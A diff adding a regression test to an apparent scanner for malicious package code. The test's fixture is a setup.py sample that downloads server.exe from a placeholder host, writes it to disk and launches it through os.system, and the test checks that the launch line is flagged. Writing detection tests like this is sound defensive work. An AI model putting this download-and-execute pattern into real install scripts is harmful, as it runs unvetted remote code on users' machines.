@@ -83,3 +83,14 @@ def test_legacy_bootstrap_exec_is_medium():
     assert got == {Severity.MEDIUM}
     got = {f.severity for f in scan({"pkg/boot.py": src}) if f.rule == "DOU401"}
     assert got == {Severity.CRITICAL}
+
+
+def test_command_naming_the_written_file_counts():
+    """Regression: `start server.exe` after writing `C://x//server.exe` was missed."""
+    src = (
+        "import os, requests\n"
+        "r = requests.get('https://x.example.invalid/server.exe')\n"
+        "open('C://Kingston//server.exe', 'wb').write(r.content)\n"
+        "os.system('start cmd.exe /c start C://Kingston//server.exe')\n"
+    )
+    assert [f.line for f in scan({"setup.py": src}) if f.rule == "DOU402"] == [4]
